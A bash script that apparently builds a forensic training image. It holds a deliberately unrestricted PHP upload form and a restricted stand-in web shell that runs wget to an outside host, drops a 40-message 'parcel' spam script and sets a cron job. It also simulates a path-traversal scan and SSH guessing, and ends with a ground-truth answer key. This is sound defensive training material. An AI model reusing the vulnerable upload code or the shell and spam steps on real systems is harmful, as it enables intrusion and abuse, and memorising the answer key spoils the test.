#!/bin/bash
# A script is uploaded through a weak form, run as www-data, and sends mail.
# Usage: web-upload.sh OUTDIR
set -euo pipefail
. "$(dirname "$0")/common.sh"
begin "$1"
admin=198.51.100.40 bad=203.0.113.150 visitor=198.51.100.91 visitor2=198.51.100.92 scan=203.0.113.31
disk bare 480
setup www2 UTC
account olga - sudo; echo 'olga ALL=(ALL) NOPASSWD: ALL' >"$mnt/etc/sudoers.d/olga"; chmod 440 "$mnt/etc/sudoers.d/olga"
key olga olga@laptop; key_for olga olga
www=$mnt/var/www/html
printf '<html><link rel="stylesheet" href="style.css"><h1>Photos of our club</h1><a href="gallery.php">gallery</a></html>\n' >"$www/index.html"
printf 'h1 { color: navy }\n' >"$www/style.css"
cat >"$www/gallery.php" <<'P'
<html><h1>Gallery</h1><form method="post" action="upload.php" enctype="multipart/form-data"><input type="file" name="photo"><input type="submit"></form>
<?php foreach (glob("uploads/*") as $f) { echo "<img src=\"", htmlspecialchars($f), "\">\n"; } ?></html>
P
cat >"$www/upload.php" <<'P'
<?php
// Takes whatever it is given: the weak spot of this practice case.
if (isset($_FILES['photo'])) {
	move_uploaded_file($_FILES['photo']['tmp_name'], 'uploads/' . basename($_FILES['photo']['name']));
	header('Location: gallery.php');
}
P
mkdir -p "$www/uploads"; chroot "$mnt" chown www-data:www-data /var/www/html/uploads
# The stand-in of a web shell: it knows four words and runs four fixed programs, whatever else it is asked.
cat >"$work/$tag.thumb.php" <<'P'
<?php
$known = array('id' => 'id', 'uname' => 'uname -a', 'get' => 'wget -q -O /dev/null --tries=1 --timeout=1 http://192.0.2.1:8/tool || wget --tries=1 --timeout=1 http://192.0.2.1:8/tool -O /dev/null', 'mail' => 'php /var/www/html/uploads/.m.php');
if (isset($_GET['cmd']) && isset($known[$_GET['cmd']])) { system($known[$_GET['cmd']]); } else { echo 'ok'; }
if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], '/var/www/html/uploads/' . basename($_FILES['f']['name'])); }
if (isset($_POST['tab'])) { file_put_contents('/tmp/.tab', "*/10 * * * * php /var/www/html/uploads/.m.php >/dev/null 2>&1\n"); system('crontab /tmp/.tab'); }
P
cat >"$work/$tag.m.php" <<'P'
<?php
for ($i = 0; $i < 40; $i++) { mail("customer$i@example.net", 'Your parcel', "Please see http://203.0.113.150/parcel\n", 'From: post@example.net'); }
P
head -c 4000 /dev/urandom >"$work/$tag.summer.jpg"; cp "$work/$tag.summer.jpg" "$work/$tag.dog.jpg"
network $admin $bad $visitor $visitor2 $scan 203.0.113.12
boot
ff='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0'
browse() { for p in / /style.css /gallery.php /uploads/; do get "$1" -A "$ff" -e http://www2.example.org/ "http://192.0.2.10$p"; done; }
act visit visitor "" $visitor "looks at the gallery" -- browse $visitor
act upload visitor "" $visitor "uploads a photo" -- get $visitor -A "$ff" -e http://www2.example.org/gallery.php -F "photo=@$work/$tag.summer.jpg;filename=summer.jpg" http://192.0.2.10/upload.php
act ssh_login admin olga $admin "logs in by key" -- typing ssh_key $admin olga olga -tt >/dev/null 2>&1 <<'S'
sudo tail -2 /var/log/apache2/access.log
exit
S
scanning() { for p in wp-login.php xmlrpc.php .env admin/ phpmyadmin/ .git/config backup.zip old/ test.php shell.php cgi-bin/test.cgi vendor/ api/v1 login.jsp config.php.bak db.sql manager/html actuator solr/ wp-content/ joomla/ typo3/ bitrix/ console; do get $scan -A 'Mozilla/5.0 zgrab/0.x' "http://192.0.2.10/$p"; done; get $scan 'http://192.0.2.10/index.html?page=../../../../etc/passwd'; }
act web_scan noise "" $scan "asks for things that are not there" -- scanning
act ssh_guess noise root 203.0.113.12 "guesses and fails" -- wrong 203.0.113.12 root root
act ssh_guess noise admin 203.0.113.12 "guesses and fails" -- wrong 203.0.113.12 admin admin
act ssh_guess noise oracle 203.0.113.12 "guesses and fails" -- wrong 203.0.113.12 oracle oracle
act visit visitor "" $visitor2 "looks at the gallery" -- browse $visitor2
sleep 2
ua='Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36'
act web_probe intruder "" $bad "looks at the form" -- get $bad -A "$ua" http://192.0.2.10/gallery.php
sleep 1
act web_upload intruder www-data $bad "uploads a script through the form" -- get $bad -A "$ua" -F "photo=@$work/$tag.thumb.php;filename=thumb.php" http://192.0.2.10/upload.php
sleep 1
shell() { for c in id uname get; do get $bad -A "$ua" "http://192.0.2.10/uploads/thumb.php?cmd=$c"; sleep 1; done; }
act web_shell intruder www-data $bad "runs commands through the script" -- shell
act web_upload intruder www-data $bad "brings the mail script" -- get $bad -A "$ua" -F "f=@$work/$tag.m.php;filename=.m.php" http://192.0.2.10/uploads/thumb.php
act spam intruder www-data $bad "sends 40 mails" -- get $bad -A "$ua" "http://192.0.2.10/uploads/thumb.php?cmd=mail"
act persist intruder www-data $bad "leaves a crontab" -- get $bad -A "$ua" -d tab=1 http://192.0.2.10/uploads/thumb.php
sleep 3
act visit visitor "" $visitor "looks at the gallery" -- browse $visitor
act upload visitor "" $visitor2 "uploads a photo" -- get $visitor2 -A "$ff" -e http://www2.example.org/gallery.php -F "photo=@$work/$tag.dog.jpg;filename=dog.jpg" http://192.0.2.10/upload.php
sleep 2
down
thin
truth web-upload UTC "$(cat <<J
{"expect":{"status":"compromised","root":null,
"entry":[{"vector":"web-upload","account":"www-data","sources":["$bad"],"first_act":"uploads a script through the form","tolerance_seconds":5}],
"persistence":[{"mechanism":"cron","path":"/var/spool/cron/crontabs/www-data","as":"www-data"}],
"altered":[],"impact":[{"what":"spam","min_count":40,"by":"www-data"}],"files":["/var/www/html/uploads/thumb.php"]},
"must_not":{"accounts":["olga"],"addresses":["$admin","$visitor","$visitor2","$scan","203.0.113.12"],"files":["/var/www/html/upload.php","/var/www/html/gallery.php","/etc/sudoers.d/olga"]}}
J
)"
image web-upload zst
